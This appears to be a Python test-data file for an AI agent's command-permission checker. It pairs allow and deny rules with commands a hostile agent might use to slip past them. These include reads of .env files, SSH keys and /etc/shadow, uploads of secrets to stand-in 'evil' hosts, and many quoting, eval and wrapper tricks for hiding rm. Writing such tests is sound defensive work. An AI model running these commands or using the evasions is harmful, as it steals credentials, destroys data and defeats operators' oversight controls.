"""Commands of a hostile agent beside the allow rules that it hopes will cover them.

Each line: the rules (several apart by `;;`), a bar, the command.
"""

NEVER_ALLOWED = r"""
git status:* | cd sub && git status
cd sub:* ;; git status:* | cd sub && git status
git log:* | git log --output=x
git log:* | git log --outp=x
git log:* | git log -p --ext-diff
git log:* | git log --textconv
git log:* | git log --format=%GK
git log:* | git log "--format=%GG"
git log:* | git log --pretty=format:%G?
git log:* | git log --show-signature
git diff:* | git diff --ext-diff
git diff:* | git diff --no-index /etc/shadow /dev/null
git diff:* | git diff /dev/null ~/.ssh/id_rsa
git diff:* | git diff -O/etc/x
git show:* | git show --textconv HEAD:x
git show:* | git show HEAD:.env
git show:* | git show HEAD:config/credentials.json
git grep:* | git grep -O x
git grep:* | git grep -Oless x
git grep:* | git grep --open-files-in-pager=sh x
git grep:* | git grep --no-index x /etc
git grep:* | git grep -f /etc/shadow
git cat-file:* | git cat-file --filters HEAD:x
git cat-file:* | git cat-file --textconv HEAD:x
git blame:* | git blame --contents /etc/shadow x
git branch:* | git branch newname
git branch:* | git branch -D x
git branch:* | git branch -m a b
git branch:* | git branch -f main HEAD~3
git branch:* | git branch --color newbranch
git branch:* | git branch -v newbranch
git branch:* | git branch -a newbranch
git branch:* | git branch -vv --track x
git branch:* | git branch --unset-upstream
git branch:* | git branch -u origin/x
git branch:* | git branch --edit-description
git branch:* | git branch --abbrev newbranch
git branch:* | git branch --sort=x newbranch
git tag:* | git tag v1
git tag:* | git tag -d v1
git tag:* | git tag -n v1
git tag:* | git tag -s v1
git tag:* | git tag --column v1
git remote:* | git remote add x y
git remote:* | git remote -v update
git remote show:* | git remote show ext::sh
git stash show:* | git stash drop
git reflog:* | git reflog expire --all
git reflog:* | git reflog delete HEAD@{0}
git config:* | git config user.name x
git config:* | git config --get a --add b c
git config:* | git config --list --edit
git config:* | git config -l -e
git config:* | git config --file=/etc/x --list
git config:* | git config --get alias.x --unset alias.x
git worktree list:* | git worktree add x
git symbolic-ref:* | git symbolic-ref HEAD refs/heads/x
git symbolic-ref:* | git symbolic-ref -d HEAD
git notes show:* | git notes add
git submodule status:* | git submodule foreach id
git for-each-ref:* | git for-each-ref "--format=%(signature)"
git branch:* | git branch "--format=%(signature:key)"
git rev-parse:* | git rev-parse --parseopt
git ls-files:* | git ls-files -X .env
git diff:* | git -c core.pager=id diff
git diff:* | git -C /x diff
git diff:* | git --git-dir=x diff
git diff:* | git --exec-path=x diff
git diff:* | git -p diff
git status:* | GIT_DIR=x git status
git status:* | git status; GIT_PAGER=id git log
git status:* | git  statu
git status:* | Git status
git status:* | git.exe status
git status:* | ./git status
git status:* | /usr/bin/git status
git status:* | "git" status
git status:* | g\it status
find:* | find . -fprintf x y
find:* | find . -fls x
find:* | find . -fprint0 x
find:* | find . -files0-from x
find:* | find . -ok id ;
find:* | find . -execdir id {} +
find:* | find . '-delete'
find:* | find . \-delete
find:* | find . "-exec" id {} +
find:* | find . -name x -delete
find:* | find . -name -delete
find:* | find . -o -delete
find:* | find . \( -delete \)
find:* | find . ! -delete
find:* | find . -newerXY x -delete
find:* | find -D exec .
find:* | find *
find:* | find -- -delete
sort:* | sort -o x y
sort:* | sort -ox y
sort:* | sort --output=x y
sort:* | sort --outpu=x y
sort:* | sort -T /tmp x
sort:* | sort --files0-from=x
sort:* | sort --compress-program=id x
sort:* | sort -S 1 --compress-prog=id x
sort:* | sort --random-source=.env x
sort:* | sort -uo x y
uniq:* | uniq in out
uniq:* | uniq -c in out
uniq:* | uniq -- in out
uniq:* | uniq in*
tree:* | tree -o f
tree:* | tree -ao f
tree:* | tree -R -H x -L 2
tree:* | tree --fromfile x
tree:* | tree -L2o f
jq:* | jq -n env
jq:* | jq -n 'env'
jq:* | jq -n '$ENV'
jq:* | jq -n '$ENV.X'
jq:* | jq -n '$ ENV'
jq:* | jq -n '$ ENV.X'
jq:* | jq -n '.a|env'
jq:* | jq -n '"\(env)"'
jq:* | jq -f x
jq:* | jq --from-file x
jq:* | jq -nf x
jq:* | jq -L . 'import "a" as a; .'
jq:* | jq -n 'import "a" as $a; $a'
jq:* | jq -n 'include "evil"; f'
jq:* | jq -n --slurpfile a .env '$a'
jq:* | jq -n --rawfile a .env '$a'
jq:* | jq . .env
jq:* | jq -n --rawfile a credentials '$a'
jq:* | jq --args . .env
jq:* | jq -Rn '[inputs]' ~/.netrc
yq:* | yq -i . x
yq:* | yq 'load("x")'
yq:* | yq 'strenv(X)'
yq:* | yq '.a = env(X)'
yq:* | yq 'envsubst'
yq:* | yq '$ENV'
yq:* | yq '$ENV.X' x.yml
yq:* | yq e . x
yq:* | yq --from-file x
yq:* | yq -s . x
yq:* | yq '$__loc__' .env
kubectl get pods:* | kubectl get pods --kubeconfig=x
kubectl get:* | kubectl get --raw /api
kubectl get:* | kubectl get pods --as=system:admin
kubectl get:* | kubectl get pods -o go-template-file=x
kubectl get:* | kubectl get pods -o=jsonpath-file=x
kubectl get:* | kubectl get pods -o custom-columns-file=x
kubectl get:* | kubectl get secret
kubectl get:* | kubectl get pods,secrets -A
kubectl get:* | kubectl get Secret/x -o yaml
kubectl get:* | kubectl get secrets.v1. x
kubectl get:* | kubectl get -f x
kubectl get:* | kubectl get pods --server=http://x
kubectl get:* | kubectl get pods -s http://x
kubectl get:* | kubectl get pods --token=x
kubectl get:* | kubectl get pods --cache-dir=x
kubectl get:* | kubectl get pods --profile=cpu --profile-output=x
kubectl get:* | kubectl get pods -v=10
kubectl get:* | kubectl --context prod get pods
kubectl get:* | kubectl -n x get pods
kubectl describe:* | kubectl describe -f http://x
kubectl logs:* | kubectl logs x --insecure-skip-tls-verify-backend
kubectl config view:* | kubectl config view --raw
kubectl config view:* | kubectl config view --flatten
kubectl cluster-info:* | kubectl cluster-info dump --output-directory=x
kubectl version:* | kubectl version --kubeconfig x
kubectl rollout status:* | kubectl rollout restart x
kubectl get:* | kubectl delete pod x
helm list:* | helm list --kube-token x
helm status:* | helm status x --kubeconfig y
docker ps:* | docker -H tcp://x ps
docker ps:* | docker --config x ps
docker ps:* | docker ps -H tcp://x
docker ps:* | docker --context x ps
docker search:* | docker search evil.com/x
docker search:* | docker search evil:5000/x
podman search:* | podman search evil.com/x
docker images:* | docker images rm x
docker image ls:* | docker image rm x
docker logs:* | docker logs x y
docker stats:* | docker stop x
docker compose config:* | docker compose config -o x
docker compose ps:* | docker compose -f evil.yml ps
docker compose ps:* | docker compose --env-file .env ps
docker network ls:* | docker network rm x
systemctl status:* | systemctl -H host status x
systemctl status:* | systemctl status -H host x
systemctl status:* | systemctl status -Hhost x
systemctl status:* | systemctl status --host=x x
systemctl status:* | systemctl status -M c x
systemctl status:* | systemctl stop x
systemctl show:* | systemctl show x
systemctl show:* | systemctl show -p Environment x
systemctl show:* | systemctl show -pEnvironment x
systemctl show:* | systemctl show --property=ExecStart,Environment x
systemctl cat:* | systemctl cat x --root=/y
journalctl:* | journalctl --vacuum-time=1s
journalctl:* | journalctl --rotate
journalctl:* | journalctl -D /x
journalctl:* | journalctl --flush
journalctl:* | journalctl --file=x
journalctl:* | journalctl --root=x
journalctl:* | journalctl --setup-keys
journalctl:* | journalctl --cursor-file=x
journalctl:* | journalctl --relinquish-var
journalctl:* | journalctl --update-catalog
journalctl:* | journalctl --sync
dmesg:* | dmesg -C
dmesg:* | dmesg -c
dmesg:* | dmesg --clear
dmesg:* | dmesg -TC
dmesg:* | dmesg -n 1
dmesg:* | dmesg -D
dmesg:* | dmesg -E
dmesg:* | dmesg -F .env
dmesg:* | dmesg --file=x
ss:* | ss -K
ss:* | ss -tK
ss:* | ss --kill
ss:* | ss -D f
ss:* | ss --diag=f
ss:* | ss -F f
ss:* | ss -N x
ip addr:* | ip addr add 1.2.3.4 dev x
ip addr:* | ip addr del 1.2.3.4 dev x
ip addr:* | ip addr flush dev x
ip a:* | ip a a 1.2.3.4/8 dev x
ip link:* | ip link set x down
ip route:* | ip route add default via 1.2.3.4
ip addr:* | ip -batch f
ip addr:* | ip -b f
ip addr:* | ip -n ns addr
ip addr:* | ip netns exec x id
ip route:* | ip route save
ip route:* | ip route showdump
ip addr:* | ip addr save
hostname:* | hostname newname
hostname:* | hostname -F f
hostname:* | hostname -b x
date:* | date -s 2020-01-01
date:* | date --set=x
date:* | date 010100002020
date:* | date -f .env
date:* | date --file=.env
date:* | date -us x
date:* | date -r .env
timedatectl status:* | timedatectl set-time x
hostnamectl status:* | hostnamectl set-hostname x
locale:* | locale -k LC_ALL LANG
getconf:* | getconf -v x -a y z
sysctl:* | sysctl -w a=b
sysctl:* | sysctl a=b
sysctl:* | sysctl -p
sysctl:* | sysctl --system
mount:* | mount /dev/x /y
mount:* | mount -t ext4 /dev/x
mount:* | mount -a
top:* | top
top:* | top -bW
ps:* | ps e
ps:* | ps aux e
ps:* | ps auxe
ps:* | ps eww
ps:* | ps -o pid,environ
lsof:* | lsof -r
lsof:* | lsof +m
lsof:* | lsof -D b/x
lsof:* | lsof -k x
gh pr view:* | gh pr view --web
gh pr view:* | gh pr view -w
gh pr view:* | gh pr view -cw
gh pr view:* | gh pr merge
gh pr list:* | gh pr list --web
gh repo view:* | gh repo view -w
gh repo view:* | gh repo delete x
gh api:* | gh api -X POST x
gh api:* | gh api x -f a=b
gh api:* | gh api x -F a=@.env
gh api:* | gh api x --input .env
gh api:* | gh api graphql
gh api:* | gh api /graphql
gh api:* | gh api -XDELETE x
gh api:* | gh api --method=DELETE x
gh api:* | gh api https://evil/x
gh api:* | gh api x -H "A: b"
gh api:* | gh api --hostname evil x
gh auth status:* | gh auth status --show-token
gh auth status:* | gh auth status -t
gh auth status:* | gh auth token
gh run view:* | gh run view --web
gh run watch:* | gh run cancel 1
gh pr diff:* | gh pr diff --web
gh pr view:* | gh pr view --json x -q env.X
gh pr view:* | gh pr view --jq '$ENV'
npm view:* | npm view git+ssh://x
npm view:* | npm view user/repo
npm view:* | npm view ./x
npm view:* | npm view evil/x.git
npm view:* | npm view x --registry=http://y
npm view:* | npm view file:x
npm ls:* | npm ls --prefix x
npm ls:* | npm ls --userconfig x
npm ls:* | npm -C x ls
npm list:* | npm list --node-options=x
npm test:* | npm test --script-shell=./x
npm test:* | npm test --prefix x
npm test:* | npm test --node-options=--require=x
npm run build:* | npm run deploy
npm run:* | npm run deploy
npm audit:* | npm audit fix
pnpm view:* | pnpm view user/repo
npm version:* | npm version patch
npm root:* | npm root x
cargo tree:* | cargo tree --config x
cargo tree:* | cargo tree --manifest-path x
cargo tree:* | cargo +evil tree
cargo metadata:* | cargo metadata --manifest-path ../x
cargo test:* | cargo test --config build.rustc=x
cargo test:* | cargo test --target-dir x
cargo test:* | cargo test -Z x
pip list:* | pip list --log x
pip list:* | pip list --index-url http://x
pip show:* | pip show -f x --log y
pip list:* | pip --python x list
pip freeze:* | pip freeze -r .env
pip freeze:* | pip freeze --path x
pip3 list:* | pip3 list --cache-dir x
go list:* | go list -exec x
go list:* | go list -toolexec x
go list:* | go list -modfile x
go env:* | go env -w A=b
go env:* | go env -u A
go test:* | go test -exec x
go test:* | go test -o x
go test:* | go test -c
go test:* | go test -toolexec=x ./...
go test:* | go test -overlay=x
go test:* | go test --exec x
go test:* | go test -args -x
go vet:* | go vet -vettool=x
go build:* | go build -o /x
go build:* | go build -ldflags=x
go doc:* | go doc -http x
terraform show:* | terraform show -json
terraform output:* | terraform output secret
terraform output:* | terraform output -raw secret
terraform output:* | terraform output -json
terraform output:* | terraform output -state=x
terraform fmt:* | terraform fmt
terraform fmt:* | terraform fmt -write=true
terraform plan:* | terraform plan -out=x
terraform plan:* | terraform -chdir=x plan
terraform validate:* | terraform apply
terraform state list:* | terraform state list -state=.env
terraform state list:* | terraform state rm x
terraform workspace list:* | terraform workspace select x
terraform plan:* | terraform plan -var-file=x
file:* | file -C -m x
file:* | file -m x
file:* | file -f .env
file:* | file -Cm x
file:* | file --magic-file=x
file:* | file -z x
stat:* | stat --cached=x y
less:* | less +!id
man:* | man -P id ls
man:* | man --html=id ls
echo:* | echo x > f
echo:* | echo x >> f
echo:* | echo x >| f
echo:* | echo x &> f
echo:* | echo x >&f
echo:* | echo x 2> f
echo:* | echo x 1<>f
echo:* | echo $HOME
echo:* | echo `id`
echo:* | echo $((a[$(id)]))
echo:* | echo $[1+1]
echo:* | echo {a,b}
echo:* | echo <(id)
echo:* | echo $'\x41'
echo:* | echo $"a"
echo:* | echo a <<< b
echo:* | echo a <<E
echo:* | echo a & id
echo:* | echo a | tee x
echo:* | echo a |& cat
echo:* | ! echo a
echo:* | time echo a
echo:* | coproc echo a
echo:* | (echo a)
echo:* | { echo a; }
echo:* | echo a \
echo:* | echo a # b
echo:* | if echo a; then id; fi
echo:* | for i in a; do echo; done
echo:* | f() { echo; }
echo:* | function f { id; }
echo:* | case x in x) id;; esac
echo:* | IFS=, echo a
echo:* | a=b
echo:* | a=b echo
echo:* | a+=b echo
echo:* | a[0]=b echo
echo:* | export a=b
echo:* | exec echo
echo:* | command echo a
echo:* | builtin echo a
echo:* | eval echo a
echo:* | source x
echo:* | . x
echo:* | alias echo=id
echo:* | echo a;;
echo:* | echo a; (( x ))
echo:* | [[ -f x ]]
echo:* | [ -f x ]
echo:* | echo $?
echo:* | echo "$x"
echo:* | echo "`id`"
echo:* | echo "$(id)"
echo:* | echo "${x}"
echo:* | echo "\\$(id)"
echo:* | echo '$(id)'$(id)''
echo:* | echo "a"$(id)
echo:* | echo @(a|b)
echo:* | echo a>(id)
printf:* | printf -v x y
printf:* | printf -vx y
printf:* | printf '%n' 'a[$(id)]'
printf:* | printf '%ln' x
printf:* | printf '%5n' x
printf:* | printf '%*n' 1 x
printf:* | printf -- '%n' x
test:* | test -v 'a[$(id)]'
test:* | test -R x
test:* | test -o x -v 'a[$(id)]'
test:* | test *
wc:* | wc --files0-from=.env
wc:* | wc --files0-from=x
du:* | du --files0-from=x
du:* | du -X .env
ls:* | ls; id
cat:* | cat .env
cat:* | cat ./.env
cat:* | cat .e*
cat:* | cat .[e]nv
cat:* | cat .en?
cat:* | cat ~/.ssh/id_rsa
cat:* | cat ~root/.ssh/id_rsa
cat:* | cat /proc/self/environ
cat:* | cat /proc/1/environ
cat:* | cat ".env"
cat:* | cat '.env'
cat:* | cat .en\v
cat:* | cat .ENV
cat:* | cat *
cat:* | cat ?env
cat:* | cat < .env
cat:* | cat <.env
head:* | head -n 5 .env
head:* | head .aws/credentials
tail:* | tail -f .env
tail:* | tail -n +1 secrets.yml
cmp:* | cmp -l .env /dev/zero
cmp:* | cmp -bl .env /dev/zero
cmp:* | cmp --verbose .env x
comm:* | comm .env /dev/null
diff:* | diff .env /dev/null
diff:* | diff --to-file=.env x
nl:* | nl .env
column:* | column .env
fold:* | fold .env
rev:* | rev .env
od:* | od -c .env
strings:* | strings .env
base64:* | base64 .env
cut:* | cut -c1- .env
paste:* | paste .env
join:* | join .env x
expand:* | expand .env
tac:* | tac .env
sed:* | sed -n p .env
sed -n:* | sed -n 'w x' y
sed -n:* | sed -n '1e id' y
sed -n:* | sed -n 1p -i y
sed -n:* | sed -ni 1p y
sed -n:* | sed -n 's/a/b/w x' y
sed -n:* | sed -n 's/a/id/e' y
sed -n:* | sed -n -f x y
sed -n:* | sed -n --file=x y
sed -n:* | sed -n -e 1p -e 'w x' y
sed -n:* | sed -n '1r .env' y
sed -n:* | sed -n '/a/;w x' y
sed -n:* | sed -nf x
grep:* | grep -f .env x
grep:* | grep --file=.env x
grep:* | grep --exclude-from=x y
grep:* | grep x .env
grep:* | grep -e x .env
grep:* | grep -re x secrets/
grep:* | grep -r x .ssh
rg:* | rg --pre id x
rg:* | rg --pre=id x
rg:* | rg -z x
rg:* | rg --search-zip x
rg:* | rg --hostname-bin=x y
rg:* | rg -f .env x
rg:* | rg --ignore-file=x y
rg:* | rg x .env
fd:* | fd -x id
fd:* | fd -X id
fd:* | fd --exec id
fd:* | fd --exec-batch id
fd:* | fd -Hx id
fd:* | fd -l
which:* | which -a $(id)
locate:* | locate -d x
xattr:* | xattr -w a b c
xattr:* | xattr -d a b
xattr:* | xattr -c a
xattr:* | xattr -rc a
lsattr:* | lsattr -x
getfacl:* | getfacl -x
shasum:* | shasum -c .env --x
b2sum:* | b2sum --zero x > y
dpkg:* | dpkg -i x
dpkg:* | dpkg -l --root=x
dpkg:* | dpkg -r x -l
dpkg:* | dpkg --purge x
dpkg:* | dpkg -l --force-all
apt list:* | apt list -o APT::Update=x
apt show:* | apt show ./x.deb
apt-cache search:* | apt-cache search -o x y
rpm:* | rpm -i x
rpm:* | rpm -q -p http://evil/x.rpm
rpm:* | rpm -qp ./x.rpm
rpm:* | rpm -q --pipe id
rpm:* | rpm --eval '%(id)'
rpm:* | rpm -q --qf '%(id)'
rpm:* | rpm -qa --define x
rpm:* | rpm -q --root x y
brew list:* | brew list ./evil.rb
brew info:* | brew info ./evil.rb
brew info:* | brew info user/tap/formula
brew info:* | brew info https://evil/x.rb
brew info:* | brew info evil.rb
gem list:* | gem list --remote --source http://x
rustup show:* | rustup show home evil
bundle list:* | bundle list --without-group x
mvn dependency:tree:* | mvn dependency:tree -f x
mvn dependency:tree:* | mvn dependency:tree -s x
make test:* | make test deploy
make test:* | make test SHELL=x
make test:* | make -C x test
make test:* | make test -f x
make test:* | make test --eval=x
make test:* | make SHELL=id test
make:* | make deploy
just test:* | just test deploy
just test:* | just test --justfile x
just test:* | just test --shell id
just test:* | just --set a b test
task test:* | task test deploy
task test:* | task test A=b
pytest:* | pytest -p evil
pytest:* | pytest -c x
pytest:* | pytest -o x=y
pytest:* | pytest --rootdir x
pytest:* | pytest @args
pytest:* | pytest --basetemp=/x
pytest:* | pytest --junitxml=x
pytest:* | pytest --pdbcls=a:b
pytest:* | pytest --pdb
pytest:* | pytest /tmp/evil
pytest:* | pytest ../x
pytest:* | pytest --pyargs os
pytest:* | pytest --import-mode=x
pytest:* | pytest --confcutdir=/
pytest:* | pytest --log-file=x
mypy:* | mypy @args
mypy:* | mypy --install-types x
mypy:* | mypy --config-file x
mypy:* | mypy --python-executable=x y
mypy:* | mypy --cache-dir=x
mypy:* | mypy -c 'x'
ruff check:* | ruff check --fix
ruff check:* | ruff check @args
ruff check:* | ruff check -o x
ruff check:* | ruff check --config x
ruff check:* | ruff check --add-noqa
ruff format:* | ruff format x
tsc:* | tsc @args
tsc:* | tsc --outDir /x
tsc:* | tsc --build
tsc:* | tsc -w
eslint:* | eslint --fix x
eslint:* | eslint -c x y
eslint:* | eslint --rulesdir x
eslint:* | eslint -o x y
eslint:* | eslint --resolve-plugins-relative-to x y
eslint:* | eslint -f ./evil.js
prettier:* | prettier --write x
prettier:* | prettier --plugin=x y
prettier:* | prettier --config x y
jest:* | jest --config x
jest:* | jest --globalSetup=x
jest:* | jest -u
vitest run:* | vitest run --config x
vitest run:* | vitest run -u
golangci-lint run:* | golangci-lint run --fix
golangci-lint run:* | golangci-lint run -c x
pre-commit run:* | pre-commit run -c x
dotnet build:* | dotnet build -p:A=b
dotnet build:* | dotnet build /p:A=b
dotnet build:* | dotnet build @args
dotnet test:* | dotnet test --settings x
dotnet test:* | dotnet test --logger /x
aws ec2 describe-instances:* | aws ec2 describe-instances --endpoint-url http://x
aws ec2 describe-instances:* | aws ec2 describe-instances --profile x
aws ec2 describe-instances:* | aws ec2 describe-instances --filters file:///etc/shadow
aws ec2 describe-instances:* | aws ec2 describe-instances --cli-input-json file://x
aws ec2 describe-instances:* | aws ec2 terminate-instances --instance-ids x
aws s3 ls:* | aws s3 cp x y
aws s3 ls:* | aws s3 ls --endpoint-url=http://evil
aws sts get-caller-identity:* | aws sts get-caller-identity --ca-bundle x
aws logs tail:* | aws logs tail x --profile y
aws ssm get-parameters-by-path:* | aws ssm get-parameters-by-path --path /prod
aws ssm get-parameters-by-path:* | aws ssm get-parameters-by-path --path /aws/service/x --with-d
aws configure list:* | aws configure list --profile x
npm run test* | npm run test;id
npm run test* | npm run 'test;id'
npm run test* | npm run "test x"
make test* | make 'test:=$(shell id)'
make test* | make testX=1
make *test | make SHELL=./evil-test
ssh host ls* | ssh host 'ls; rm -rf x'
ssh host ls* | ssh host 'ls $(id)'
curl https://api.example.com* | curl https://api.example.com.evil.net/
curl https://api.example.com* | curl https://api.example.com@evil.net/
curl https://api.example.com/* | curl 'https://api.example.com/../../x'
curl https://api.example.com/* | curl -o x https://api.example.com/x
curl https://* | curl https://evil/
git * push | git -c push
git * push | git 'x y' push
cat src/* | cat src/../.env
cat src/* | cat src/.env
hyprctl:* | hyprctl dispatch exec id
hyprctl:* | hyprctl --batch 'x'
tr:* | tr a b > x
seq:* | seq 1 5 | xargs id
sleep:* | sleep infinity
sleep:* | sleep 99999
type:* | type -x y
command -v:* | command -v x -p y
command -v:* | command -p id
python --version:* | python --version x.py
docker inspect:* | docker inspect x -H y
xxd:* | xxd -r x y
tee:* | tee x
xargs:* | xargs id
env:* | env id
time:* | time id
nice:* | nice id
awk:* | awk 'BEGIN{system("id")}'
perl -v:* | perl -v
node:* | node x
sudo ls:* | sudo ls
timeout 5 ls:* | timeout 5 ls
cd:* | cd /etc && cat shadow
cd:* | cd ../..
cd:* | cd -
cd:* | cd a b
cd sub:* ;; git status:* | cd ./sub; git status
cd sub:* ;; ./deploy.sh | cd sub && ./deploy.sh
cd sub ;; rm -f x | cd sub && rm -f x
cd sub ;; git log:* | cd sub || git log
pushd sub ;; git log:* | pushd sub && git log
tree:* | tree -Pox y f
tree:* | tree -Ioo y f
tree:* | tree -aPo x f
jq:* | jq -n 'include "evil" {search:"./"}; f'
git for-each-ref:* | git for-each-ref '--format=%(*signature)'
npm run test* | npm run 'test=x'
scp h:* . | scp h:../x .
cat:* | cat /dev/sda
cat:* | cat //dev//vda1
head:* | head -c 512 /dev/nvme0n1
strings:* | strings /proc/kcore
cat:* | cat /proc/1/mem
od:* | od -c /dev/input/event0
cat:* | cat /etc/shadow-
cat:* | cat /etc/sudoers.d/admin
cat:* | cat id_rsa_work
cat:* | cat .ssh-backup/id_ed25519.old
cat:* | cat .env~
cat:* | cat .env-prod
cat:* | cat .rediscli_history
grep:* | grep key rclone.conf
""".strip().splitlines()

STILL_ALLOWED = r"""
tree:* | tree -aL 2 src
tree:* | tree -L2
tree:* | tree -I node_modules
cmp:* | cmp -s a b
docker search:* | docker search nginx
docker search:* | docker search bitnami/redis
brew info:* | brew info python@3.12
brew list:* | brew list --versions
npm view:* | npm view @types/node version
npm view:* | npm view react@18 dist-tags.latest
composer show:* | composer show symfony/console
just test:* | just test
jq:* | jq '.environment, .imports, .import' x.json
yq:* | yq '.services.web.image' compose.yml
ps:* | ps -eo pid,ppid,cmd
git for-each-ref:* | git for-each-ref '--format=%(refname)'
pytest:* | pytest tests -k x
cd sub:* ;; npm test | cd sub && npm test
cd sub:* ;; ls:* | cd sub && ls -la && cat README.md
cd sub ;; npm ci | cd sub && npm ci
cd sub:* ;; git log:* | git log -3 && cd sub && ls
npm run test* | npm run test:unit
make test* | make test-unit
npm run lint:* --fix | npm run lint:css --fix
cat src/* | cat src/main.py
curl https://api.example.com/* | curl 'https://api.example.com/v1/x?a=1&b=2'
git * push | git origin push
cat:* | cat /dev/null
head:* | head -c 16 /dev/urandom
cat:* | cat id_rsa.pub .env.example
cat:* | cat /proc/meminfo
""".strip().splitlines()

DENIED = r"""
rm:* | \rm x
rm:* | r""m x
rm:* | r''m x
rm:* | 'rm' x
rm:* | "rm" x
rm:* | /bin/rm x
rm:* | ../../bin/rm x
rm:* | RM x
rm:* | command rm x
rm:* | command -p rm x
rm:* | builtin command rm x
rm:* | exec rm x
rm:* | exec -a y rm x
rm:* | sudo rm x
rm:* | sudo -u root rm x
rm:* | sudo -- rm x
rm:* | sudo -E -n rm x
rm:* | env rm x
rm:* | env -i A=b rm x
rm:* | env -S 'rm x'
rm:* | env -S'rm x'
rm:* | env --split-string='rm x'
rm:* | env -vS 'rm x'
rm:* | nice -n 5 rm x
rm:* | ionice -c 3 rm x
rm:* | timeout 5 rm x
rm:* | timeout -k 5 5 rm x
rm:* | timeout --signal=9 5 rm x
rm:* | nohup rm x
rm:* | setsid rm x
rm:* | stdbuf -o0 rm x
rm:* | time rm x
rm:* | time -p rm x
rm:* | ! rm x
rm:* | coproc rm x
rm:* | busybox rm x
rm:* | toybox rm x
rm:* | xargs rm
rm:* | xargs -n1 -0 rm
rm:* | xargs -I{} rm {}
rm:* | find . -exec rm {} +
rm:* | find . -execdir rm {} ;
rm:* | find . -ok rm {} \;
rm:* | fd x -x rm
rm:* | fd x --exec rm
rm:* | fd x --exec=rm
rm:* | fd x -xrm
rm:* | sh -c 'rm x'
rm:* | bash -lc "rm x"
rm:* | bash -c rm\ x
rm:* | bash -xec 'rm x'
rm:* | sh <<< 'rm x'
rm:* | eval 'rm x'
rm:* | eval rm x
rm:* | eval "r""m x"
rm:* | echo 'rm x' | sh
rm:* | printf 'rm x' | bash
rm:* | (rm x)
rm:* | { rm x; }
rm:* | if true; then rm x; fi
rm:* | for i in a; do rm $i; done
rm:* | while rm x; do :; done
rm:* | f() { rm x; }; f
rm:* | case x in x) rm x;; esac
rm:* | echo $(rm x)
rm:* | echo "$(rm x)"
rm:* | echo `rm x`
rm:* | cat <(rm x)
rm:* | echo ${x:-$(rm x)}
rm:* | echo $((a[$(rm x)]))
rm:* | a=$(rm x)
rm:* | A=b rm x
rm:* | A=b; rm x
rm:* | ls;rm x
rm:* | ls&&rm x
rm:* | ls||rm x
rm:* | ls|rm x
rm:* | ls&rm x
rm:* | ls\nrm x
rm:* | ls\r\nrm x
rm:* | >f rm x
rm:* | 2>&1 rm x
rm:* | rm<f
rm:* | rm>f
rm:* | rm\tx
rm:* | rm  x
rm:* | $'rm' x
rm:* | $'\x72m' x
rm:* | $'\162m' x
rm:* | $"rm" x
rm:* | r$@m x
rm:* | r${x}m x
rm:* | {rm,x}
rm:* | {,rm} x
rm:* | r{m,m} x
rm:* | rm$IFS-rf
rm:* | rm${IFS}x
rm:* | /bin/r? x
rm:* | /bin/r[m] x
rm:* | trap 'rm x' EXIT
rm:* | alias a='rm x'
rm:* | ssh h rm x
rm:* | ssh h 'rm x'
rm:* | docker exec c rm x
rm:* | docker run img rm x
rm:* | kubectl exec p -- rm x
rm:* | npx rm x
rm:* | uv run rm x
rm:* | watch rm x
rm:* | watch 'rm x'
rm:* | parallel rm ::: x
rm:* | flock f rm x
rm:* | flock f -c 'rm x'
rm:* | script -c 'rm x' f
rm:* | su -c 'rm x'
rm:* | su root -c 'rm x'
rm:* | strace rm x
rm:* | unshare -r rm x
rm:* | chroot / rm x
rm:* | systemd-run rm x
rm:* | git -c alias.x='!rm x' x
rm:* | git -c core.pager='rm x' log
rm:* | git rebase -x 'rm x' HEAD~
rm:* | git bisect run rm x
rm:* | git submodule foreach 'rm x'
rm:* | awk 'BEGIN{system("rm x")}'
rm:* | perl -e 'system("rm x")'
rm:* | python -c 'import os; os.system("rm x")'
rm:* | python3 -c "import subprocess as s; s.run(['rm','x'])"
rm:* | vim -c '!rm x'
rm:* | X=rm; $X x
rm:* | $(echo rm) x
rm:* | declare -x a=$(rm x)
rm:* | export a=`rm x`
rm:* | [[ $(rm x) ]]
rm:* | test -v 'a[$(rm x)]'
rm:* | printf -v 'a[$(rm x)]' y
rm:* | let 'a[$(rm x)]=1'
rm:* | read 'a[$(rm x)]'
rm:* | mapfile -C 'rm x' -c 1 a
rm:* | complete -C 'rm x' a
rm:* | BASH_ENV=<(echo rm x) bash -c :
rm:* | source <(echo rm x)
rm:* | . /dev/stdin <<< 'rm x'
rm:* | bash -s <<< 'rm x'
rm:* | tee >(rm x)
rm:* | at now <<< 'rm x'
rm:* | tmux new -d 'rm x'
rm:* | screen -dm rm x
rm:* | setpriv --reuid 0 rm x
rm:* | doas rm x
rm:* | pkexec rm x
rm:* | ld.so /bin/rm x
rm:* | /lib64/ld-linux-x86-64.so.2 /bin/rm x
rm:* | tar --to-command='rm x' -xf y
rm:* | tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm x'
rm:* | rsync -e 'rm x' a b:
rm:* | sort --compress-program=rm x
rm:* | rg --pre rm x
rm -rf:* | rm -r -f x
rm -rf:* | rm -fr x
rm -rf:* | rm --recursive --force x
rm -rf:* | rm  -rf x
rm -rf:* | rm '-rf' x
rm -rf:* | rm x -rf
curl:* | /usr/bin/curl x
curl:* | c\url x
curl:* | cu''rl x
curl:* | CURL x
curl:* | echo x | curl -d @- y
curl:* | xargs -a f curl
curl:* | bash -c "bash -c 'curl x'"
curl:* | env - curl x
curl:* | curl.exe x
git push:* | git -C x push
git push:* | git -c a=b push
git push:* | git --git-dir=x push
git push:* | git --no-pager push
git push:* | git 'push'
git push:* | git  push
git push:* | sudo git -C x push
git push:* | git -p push
git push:* | git --work-tree x push
git push --force:* | git push origin --force
git push --force:* | git push -f
kubectl delete:* | kubectl -n x delete pod y
kubectl delete:* | kubectl --context=p delete x
kubectl delete:* | kubectl --context p -n x delete y
*prod* | kubectl get pods -n pr'od'
*prod* | kubectl get pods -n pr\od
*--force* | git push --fo''rce
npm publish | npm 'publish'
npm publish | npm  publish
""".strip().splitlines()
"""Deny rules, and a command that each has to catch; \\n, \\r, \\t stand for the characters."""

OUT_OF_SIGHT = r"""
rm:* | make -f - <<< 'a:;rm x'
rm:* | bind -x '"a":rm x'
rm:* | PROMPT_COMMAND='rm x' bash -i
rm:* | crontab - <<< '* * * * * rm x'
rm:* | expect -c 'spawn rm x'
rm:* | sed 's/a/rm x/e'
rm:* | unlink x
rm:* | find . -delete
rm:* | python -c 'import os; os.remove("x")'
""".strip().splitlines()
"""What a deny rule can't see: other programs' own languages, and other programs that do the same.
Nothing allows these either."""
